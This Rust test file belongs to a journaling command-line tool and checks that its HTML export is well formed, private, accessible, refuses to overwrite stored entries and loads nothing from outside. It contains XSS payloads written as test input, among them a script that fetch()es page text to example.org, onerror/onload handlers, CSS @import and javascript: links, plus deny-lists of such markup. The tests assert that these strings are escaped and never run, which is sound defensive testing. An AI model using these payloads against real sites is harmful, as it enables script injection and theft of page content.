//! The page for a browser: whole, private, asking nothing of anybody, and readable without eyes or without colour.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::support::year::{a_year, is_as_kept};
use crate::support::{Run, Writer, empty_folder, has, journal_of, reflect};
use reflect::exit::Exit;
use serde_json::Value;

/// What somebody could write who wants a page to obey it.
const HOSTILE: [&str; 5] = [
    "<script>document.title = 'obeyed'; fetch('https://example.org/?' + document.body.innerText)</script>",
    "<img src=\"https://example.org/x.png\" onerror=\"document.title='obeyed'\"><b>bold</b> &amp; & </div></main>",
    "</style><style>@import url(https://example.org/x.css); body { background: url(https://example.org/y) }</style>",
    "\"><svg onload=alert(1)> ' -- --> ]]> <!-- \u{1b}[31m \u{0} \u{202e}turned",
    "<a href=\"javascript:alert(1)\">a</a>\n<meta http-equiv=\"refresh\" content=\"0; url=https://example.org\">",
];

/// Writes a page and reads it.
fn page(writer: &Writer, args: &[&str], name: &str) -> (Run, PathBuf, String) {
    let path = writer.home.join(name);
    let file = path.to_str().expect("UTF-8");
    let run = writer.run(&[args, &["--html", file]].concat(), "");
    let html = fs::read_to_string(&path).unwrap_or_default();
    (run, path, html)
}

/// A writer who wrote all that is hostile, with names to match.
fn hostile(name: &str) -> Writer {
    let writer = Writer::new(name);
    for (day, words) in HOSTILE.iter().enumerate() {
        let day = format!("2026-11-{}", 16 + day);
        let run = writer.run(
            &["today", "--on", &day, "--reached", "\"><script>x</script>"],
            words,
        );
        assert_eq!(run.exit, Exit::Done, "{}", run.talk);
    }
    writer
}

/// One piece of a page: a tag with its attributes, or text.
enum Piece {
    Open(String, BTreeMap<String, String>),
    Close(String),
    Text(String),
}

/// Takes a page apart, and fails where it is not as plain as ours are: attributes in double quotes, every `<` the start of a tag.
fn pieces(html: &str) -> Vec<Piece> {
    let mut pieces = Vec::new();
    let mut rest = html.strip_prefix("<!DOCTYPE html>").expect("a page");
    while !rest.is_empty() {
        if let Some(after) = rest.strip_prefix("</") {
            let (name, after) = after.split_once('>').expect("an end");
            pieces.push(Piece::Close(name.to_owned()));
            rest = after;
        } else if let Some(after) = rest.strip_prefix('<') {
            let (tag, after) = after.split_once('>').expect("an end");
            let (tag, closed) = tag
                .strip_suffix('/')
                .map_or((tag, false), |tag| (tag, true));
            let (name, mut left) = tag.split_once(' ').unwrap_or((tag, ""));
            assert!(
                name.chars()
                    .all(|letter| letter.is_ascii_lowercase() || letter.is_ascii_digit()),
                "{tag}"
            );
            let mut attributes = BTreeMap::new();
            while !left.trim().is_empty() {
                let (key, value) = left
                    .trim_start()
                    .split_once("=\"")
                    .expect("a value in quotes");
                let (value, more) = value.split_once('"').expect("a closed quote");
                assert!(
                    attributes
                        .insert(key.to_owned(), value.to_owned())
                        .is_none(),
                    "{tag}"
                );
                left = more;
            }
            pieces.push(Piece::Open(name.to_owned(), attributes));
            if closed || name == "meta" {
                pieces.push(Piece::Close(name.to_owned()));
            }
            rest = after;
        } else {
            let end = rest.find('<').unwrap_or(rest.len());
            pieces.push(Piece::Text(rest[..end].to_owned()));
            rest = &rest[end..];
        }
    }
    pieces
}

/// Holds a page to what every page of ours keeps to.
fn is_sound(html: &str) {
    const ELEMENTS: &str = "a article body circle dd desc div dl dt figcaption figure footer h1 h2 h3 h4 head header html li main meta nav p section span style svg text time title ul";
    const ATTRIBUTES: &str = "aria-hidden aria-label aria-labelledby charset class content cx cy datetime dir href http-equiv id lang name r role viewBox x y";
    let (mut open, mut ids, mut wanted) = (Vec::new(), Vec::new(), Vec::new());
    let (mut last_heading, mut landmarks) = (0, BTreeMap::new());
    for piece in pieces(html) {
        match piece {
            Piece::Open(name, attributes) => {
                assert!(ELEMENTS.split(' ').any(|known| known == name), "<{name}>");
                for (key, value) in &attributes {
                    assert!(ATTRIBUTES.split(' ').any(|known| known == key), "{key}");
                    match key.as_str() {
                        "id" => ids.push(value.clone()),
                        "href" => wanted.push(
                            value
                                .strip_prefix('#')
                                .expect("a place on the page")
                                .to_owned(),
                        ),
                        "aria-labelledby" => wanted.extend(value.split(' ').map(str::to_owned)),
                        _ => {}
                    }
                }
                if let Some(level) = name
                    .strip_prefix('h')
                    .and_then(|level| level.parse::<u8>().ok())
                {
                    assert!(
                        level <= last_heading + 1,
                        "h{level} follows h{last_heading}"
                    );
                    last_heading = level;
                }
                if name == "svg" {
                    assert_eq!(attributes["role"], "group");
                    assert!(attributes.contains_key("aria-labelledby"));
                }
                if open.last().is_none_or(|parent| parent != "svg") {
                    *landmarks.entry(name.clone()).or_insert(0) += 1;
                }
                open.push(name);
            }
            Piece::Close(name) => assert_eq!(open.pop(), Some(name)),
            Piece::Text(text) => {
                let is_style = open.last().is_some_and(|name| name == "style");
                assert!(is_style || !text.contains(['"', '\'', '>']), "{text}");
                assert!(!is_style || !(text.contains("url(") || text.contains("@import")));
                assert!(
                    text.chars()
                        .all(|letter| !letter.is_control() || letter == '\n' || letter == '\t')
                );
            }
        }
    }
    assert_eq!(open, [""; 0]);
    for name in [
        "html", "head", "title", "style", "body", "header", "h1", "main",
    ] {
        assert_eq!(landmarks.get(name), Some(&1), "{name}");
    }
    let count = ids.len();
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), count, "an id stands twice");
    for id in wanted {
        assert!(ids.contains(&id), "{id} is nowhere");
    }
    assert!(html.starts_with("<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'\">\n"));
}

#[test]
fn the_pages_of_a_year_are_as_they_were_looked_at_and_ask_nothing_of_anybody() {
    let writer = a_year("page-year");
    for (args, name) in [
        (&["week", "2026-11-18"][..], "week.html"),
        (&["month", "2026-11"], "month.html"),
        (&["year", "2026"], "year.html"),
    ] {
        let (run, path, html) = page(&writer, args, name);
        let said = format!(
            "The page is at {}. It holds your words in full.\n",
            path.display()
        );
        assert_eq!(
            (run.exit, run.out.as_str(), run.talk),
            (Exit::Done, "", said)
        );
        is_sound(&html);
        for outside in [
            "http:",
            "https:",
            "://",
            "src=",
            "<script",
            "<link",
            "url(",
            "@import",
            "@font-face",
            "javascript",
        ] {
            assert!(!html.contains(outside), "{name} holds {outside}");
        }
        is_as_kept(&html, name);
    }
}

#[test]
fn each_written_day_of_a_calendar_leads_to_its_entries_and_each_month_has_its_name() {
    let writer = a_year("page-links");
    for (args, months) in [(["month", "2026-11"], 1), (["year", "2026"], 12)] {
        let (_, _, html) = page(&writer, &args, &format!("{months}.html"));
        let days = html.matches("<article id=\"d-2026-").count();
        assert_eq!(html.matches("<a href=\"#d-2026-").count(), days, "{args:?}");
        assert_eq!(html.matches("<figcaption").count(), months, "{args:?}");
        assert!(html.contains("<a href=\"#d-2026-11-28\" aria-label=\"28 November\">"));
        assert!(
            html.contains("<h2 id=\"mentioned\">Mentioned</h2>"),
            "{args:?}"
        );
    }
}

#[test]
fn a_page_goes_to_stdout_for_a_dash() {
    let writer = a_year("page-stdout");
    let (_, _, html) = page(&writer, &["month", "2026-11"], "page.html");
    let run = writer.run(&["month", "2026-11", "--html", "-"], "");
    assert_eq!((run.exit, run.talk.as_str()), (Exit::Done, ""));
    assert!(run.out == html);
    assert!(!writer.home.join("-").exists() && !Path::new("-").exists());
}

#[test]
fn every_period_gives_a_sound_page() {
    let writer = a_year("page-periods");
    for (place, args) in [
        &["review", "all"][..],
        &["review", "2026-11-19..2026-11-24"],
        &["review", "2026-05..2026-07"],
        &["review", "2026-12-31"],
        &["review", "2026-10.."],
        &["week", "2025-03-03"],
        &["month", "2025-03"],
    ]
    .into_iter()
    .enumerate()
    {
        let (run, _, html) = page(&writer, args, &format!("{place}.html"));
        assert_eq!(run.exit, Exit::Done, "{args:?}: {}", run.talk);
        is_sound(&html);
        let counts = html.contains("Days written: ");
        assert_eq!(counts, args == ["review", "all"], "{args:?}");
    }
}

#[test]
fn entries_stand_in_full_and_those_kept_aside_by_their_date() {
    let writer = a_year("page-full");
    let (_, _, html) = page(&writer, &["year", "2026"], "year.html");
    let (mut open, mut aside) = (0, 0);
    for line in writer.kept().lines() {
        let entry: Value = serde_json::from_str(line).expect("JSON");
        let text = entry["text"].as_str().expect("a text");
        let text = text.replace('"', "&quot;").replace('\'', "&#39;");
        if entry["aside"].is_null() {
            assert!(html.contains(&format!(">{text}</div>")), "{text}");
            open += 1;
        } else {
            let date = entry["date"].as_str().expect("a date");
            let (_, day) = html
                .split_once(&format!("<time datetime=\"{date}\">"))
                .expect("the day");
            let (day, _) = day.split_once("</article>").expect("its end");
            assert!(
                day.contains(">(kept aside)</p>") && !day.contains(&text),
                "{day}"
            );
            aside += 1;
        }
    }
    assert!(open > 250 && aside > 5, "{open} {aside}");
}

#[test]
fn what_looks_like_markup_is_shown_and_never_obeyed() {
    let writer = hostile("page-hostile");
    let (run, _, html) = page(&writer, &["week"], "week.html");
    assert_eq!(run.exit, Exit::Done, "{}", run.talk);
    is_sound(&html);
    for shown in [
        "&lt;script&gt;document.title = &#39;obeyed&#39;; fetch(",
        "&lt;img src=&quot;https://example.org/x.png&quot; onerror=",
        "&lt;b&gt;bold&lt;/b&gt; &amp;amp; &amp; &lt;/div&gt;&lt;/main&gt;",
        "&lt;/style&gt;&lt;style&gt;@import url(",
        "&quot;&gt;&lt;svg onload=alert(1)&gt; &#39; -- --&gt; ]]&gt; &lt;!-- ␛[31m ␀ ",
        "&lt;a href=&quot;javascript:alert(1)&quot;&gt;",
        "&quot;&gt;&lt;script&gt;x&lt;/script&gt;</dt>",
    ] {
        assert!(html.contains(shown), "{shown}");
    }
}

#[test]
fn a_page_is_for_the_writer_alone_and_takes_no_files_place_unasked() {
    let writer = a_year("page-files");
    let (_, path, html) = page(&writer, &["month", "2026-11"], "page.html");
    let mode = |path: &Path| {
        fs::metadata(path)
            .expect("it is there")
            .permissions()
            .mode()
            & 0o777
    };
    assert_eq!(mode(&path), 0o600);
    let file = path.to_str().expect("UTF-8");
    fs::write(&path, "<!DOCTYPE html>mine").expect("a file");
    fs::set_permissions(&path, fs::Permissions::from_mode(0o644)).expect("its mode");
    let refused = writer.run(&["month", "2026-11", "--html", file], "");
    assert_eq!(
        (refused.exit, refused.out.as_str(), refused.talk),
        (
            Exit::NotUnderstood,
            "",
            format!(
                "reflect: could not write the page at {file}: the file exists already\nhint: to put the page in its place, add --force\nhint: choose another name: --html november.html\n"
            )
        )
    );
    assert_eq!(
        fs::read_to_string(&path).expect("the file"),
        "<!DOCTYPE html>mine"
    );
    let forced = writer.run(&["month", "2026-11", "--html", file, "--force"], "");
    assert_eq!(forced.exit, Exit::Done, "{}", forced.talk);
    assert_eq!(
        (fs::read_to_string(&path).expect("the page"), mode(&path)),
        (html, 0o600)
    );
    let link = writer.home.join("link.html");
    symlink("page.html", &link).expect("a link");
    let linked = writer.run(
        &[
            "week",
            "2026-11-18",
            "--html",
            link.to_str().expect("UTF-8"),
            "--force",
        ],
        "",
    );
    assert_eq!(linked.exit, Exit::Done, "{}", linked.talk);
    assert!(fs::symlink_metadata(&link).expect("the link").is_symlink());
    assert!(
        fs::read_to_string(&path)
            .expect("the page")
            .contains("<title>16 – 22 November 2026</title>")
    );
    fs::remove_file(link).expect("the link is ours");
    let names: Vec<_> = fs::read_dir(&writer.home)
        .expect("a folder")
        .map(|file| file.expect("a file").file_name())
        .collect();
    assert!(
        names
            .iter()
            .all(|name| name == "page.html" || name == "data"),
        "{names:?}"
    );
}

#[test]
fn no_page_takes_the_place_of_kept_words() {
    let writer = a_year("page-journal");
    let kept = writer.kept();
    let shelf = writer.shelf();
    shelf.of_journal(&writer.journal());
    let item = shelf.lay("0123456789ab", None, "words that were not kept");
    let beside = item.join("words");
    let link = writer.home.join("link.html");
    symlink(writer.journal(), &link).expect("a link");
    for path in [&writer.journal(), &beside, &link] {
        let file = path.to_str().expect("UTF-8");
        let run = writer.run(&["year", "--html", file, "--force"], "");
        let said = format!(
            "reflect: could not write the page at {file}: your entries are stored there\nhint: choose another name: --html november.html\n"
        );
        assert_eq!((run.exit, run.talk), (Exit::NotUnderstood, said));
    }
    assert_eq!(writer.kept(), kept);
    assert_eq!(
        fs::read_to_string(&beside).expect("the file"),
        "words that were not kept"
    );
    let folder = writer.home.to_str().expect("UTF-8");
    let run = writer.run(&["year", "--html", folder, "--force"], "");
    assert_eq!(
        (run.exit, run.talk),
        (
            Exit::NotUnderstood,
            format!(
                "reflect: could not write the page at {folder}: it is a folder\nhint: name a file in it\n"
            )
        )
    );
    let new = Writer::new("page-no-journal");
    let run = new.run(
        &["week", "--html", new.journal().to_str().expect("UTF-8")],
        "",
    );
    assert_eq!(run.exit, Exit::NotUnderstood);
    assert!(!new.journal().exists());
    let run = writer.run(&["year", "--html", "/dev/null", "--force"], "");
    let said = "reflect: could not write the page at /dev/null: it is not a plain file\nhint: choose another name: --html november.html\n";
    assert_eq!((run.exit, run.talk.as_str()), (Exit::NotUnderstood, said));
    let nowhere = writer.home.join("nowhere/page.html");
    let run = writer.run(&["year", "--html", nowhere.to_str().expect("UTF-8")], "");
    assert_eq!(run.exit, Exit::Failed);
    assert!(
        run.talk
            .starts_with("reflect: could not write the page at ")
            && run
                .talk
                .ends_with("\nhint: check that its folder is there and yours, and has room\n"),
        "{}",
        run.talk
    );
    for args in [
        &["week", "--html", "x.html", "--json"][..],
        &["week", "--force"],
    ] {
        assert_eq!(writer.run(args, "").exit, Exit::NotUnderstood, "{args:?}");
    }
}

#[test]
fn a_page_that_cannot_be_written_whole_leaves_nothing_behind() {
    let home = empty_folder("page-full-disk");
    let journal = journal_of(&home);
    fs::create_dir_all(journal.parent().expect("a folder")).expect("a folder of our own");
    fs::write(&journal, a_year("page-full-disk-year").kept()).expect("the journal is ours");
    fs::write(home.join("old.html"), "<!DOCTYPE html>old").expect("a file");
    let program = reflect(&home).get_program().to_owned();
    for (name, force) in [("new.html", ""), ("old.html", "--force")] {
        // Four blocks of 512 bytes, or of 1,024: no room for the page in either.
        let command = format!("ulimit -f 4; exec \"$0\" year 2026 --html {name} {force}");
        let outcome = Command::new("sh")
            .arg("-c")
            .arg(command)
            .arg(&program)
            .current_dir(&home)
            .env_clear()
            .env("HOME", &home)
            .output()
            .expect("sh runs");
        let said = String::from_utf8(outcome.stderr).expect("UTF-8");
        assert_eq!(outcome.status.code(), Some(1), "{said}");
        assert!(
            said.starts_with(&format!("reflect: could not write the page at {name}: ")),
            "{said}"
        );
    }
    let mut names: Vec<_> = fs::read_dir(&home)
        .expect("a folder")
        .map(|file| file.expect("a file").file_name())
        .collect();
    names.sort();
    assert_eq!(names, [".local", "old.html"]);
    assert_eq!(
        fs::read_to_string(home.join("old.html")).expect("the file"),
        "<!DOCTYPE html>old"
    );
}

#[test]
fn what_is_written_can_be_read_on_its_paper_by_day_and_by_night() {
    let style = include_str!("../../src/show/html/style.css");
    let mut papers = 0;
    for scheme in style
        .split(":root {")
        .skip(1)
        .filter_map(|scheme| scheme.split('}').next())
    {
        let colour = |name: &str| {
            let (_, value) = scheme.split_once(&format!("--{name}: #")).expect(name);
            let light = |place: usize| {
                let part =
                    f64::from(u8::from_str_radix(&value[place..place + 2], 16).expect("hex"))
                        / 255.0;
                if part <= 0.04045 {
                    part / 12.92
                } else {
                    ((part + 0.055) / 1.055).powf(2.4)
                }
            };
            0.2126 * light(0) + 0.7152 * light(2) + 0.0722 * light(4)
        };
        let contrast = |name: &str| {
            let (one, other) = (colour(name), colour("paper"));
            (one.max(other) + 0.05) / (one.min(other) + 0.05)
        };
        for (name, least) in [("ink", 7.0), ("quiet", 4.5), ("accent", 3.0)] {
            assert!(contrast(name) >= least, "{name} {}", contrast(name));
        }
        papers += 1;
    }
    assert_eq!(papers, 3);
}

/// What a browser made of a page.
struct Browsed {
    /// The page as it then is.
    dom: String,
    /// What the console said.
    console: Vec<String>,
    /// What the page asked for beside itself. No name is resolved, so that nothing goes out.
    asked: Vec<String>,
}

fn browse(page: &Path) -> Browsed {
    let folder = empty_folder("page-browser");
    let log = folder.join("net.json");
    let outcome = Command::new("chromium")
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
        ])
        .args([
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
        ])
        .args(["--enable-logging=stderr"])
        .args(["--host-resolver-rules=MAP * ~NOTFOUND", "--dump-dom"])
        .arg(format!(
            "--user-data-dir={}",
            folder.join("profile").display()
        ))
        .arg(format!("--log-net-log={}", log.display()))
        .arg(format!("file://{}", page.display()))
        .output()
        .expect("the browser runs");
    let said = String::from_utf8_lossy(&outcome.stderr);
    let console = said.lines().filter(|line| line.contains("CONSOLE"));
    let log = fs::read_to_string(log).expect("what was asked for");
    let log: Value = serde_json::from_str(&log).expect("JSON");
    let mut asked = Vec::new();
    for event in log["events"].as_array().expect("events") {
        let (initiator, url) = (&event["params"]["initiator"], &event["params"]["url"]);
        // A browser asks for things of its own, whatever the page.
        let by_the_page = initiator
            .as_str()
            .is_some_and(|initiator| initiator != "not an origin");
        if let Some(url) = url
            .as_str()
            .filter(|url| by_the_page && !url.starts_with("file:"))
        {
            asked.push(url.to_owned());
        }
    }
    Browsed {
        console: console.map(str::to_owned).collect(),
        asked,
        dom: String::from_utf8_lossy(&outcome.stdout).into_owned(),
    }
}

#[test]
fn a_browser_asks_for_nothing_runs_nothing_and_has_nothing_to_complain_of() {
    if !has("chromium") {
        return;
    }
    let folder = empty_folder("page-browser-control");
    let obeyed = folder.join("obeyed.html");
    let control = "<!DOCTYPE html><title>x</title><img src=\"https://example.org/x.png\"><script>document.title = 'obeyed'; console.error('heard')</script>";
    fs::write(&obeyed, control).expect("a file");
    let control = browse(&obeyed);
    assert!(
        control.dom.contains("<title>obeyed</title>"),
        "{}",
        control.dom
    );
    assert!(control.console.iter().any(|line| line.contains("heard")));
    assert!(
        control
            .asked
            .iter()
            .any(|url| url == "https://example.org/x.png")
    );

    let (hostile, year) = (hostile("page-browser-hostile"), a_year("page-browser-year"));
    for (writer, args, title) in [
        (&hostile, &["week"][..], "16 – 22 November 2026"),
        (&year, &["year", "2026"], "2026"),
    ] {
        let (_, path, _) = page(writer, args, "page.html");
        let Browsed {
            dom,
            console,
            asked,
        } = browse(&path);
        assert!(
            dom.contains("</main>") && dom.contains(&format!("<title>{title}</title>")),
            "{dom}"
        );
        assert!(!dom.contains("<script") && !dom.contains("<img"), "{dom}");
        assert_eq!((console, asked), (Vec::new(), Vec::new()));
    }
}

#[test]
fn no_flag_lets_a_page_take_the_place_of_what_is_no_page() {
    let writer = a_year("page-no-page");
    for (name, held) in [
        ("other.jsonl", writer.kept()),
        ("people-to-call.txt", "Sam 123\n".to_owned()),
        ("short", "<".to_owned()),
    ] {
        let path = writer.home.join(name);
        fs::write(&path, &held).expect("a file");
        let file = path.to_str().expect("UTF-8");
        let run = writer.run(&["month", "2026-11", "--html", file, "--force"], "");
        let said = format!(
            "reflect: could not write the page at {file}: the file there is not a page\nhint: choose another name: --html november.html\n"
        );
        assert_eq!((run.exit, run.talk), (Exit::NotUnderstood, said));
        assert_eq!(fs::read_to_string(&path).expect("the file"), held);
    }
    // An empty file has nothing to lose.
    let path = writer.home.join("empty.html");
    fs::write(&path, "").expect("a file");
    let run = writer.run(
        &[
            "month",
            "2026-11",
            "--html",
            path.to_str().expect("UTF-8"),
            "--force",
        ],
        "",
    );
    assert_eq!(run.exit, Exit::Done, "{}", run.talk);
}
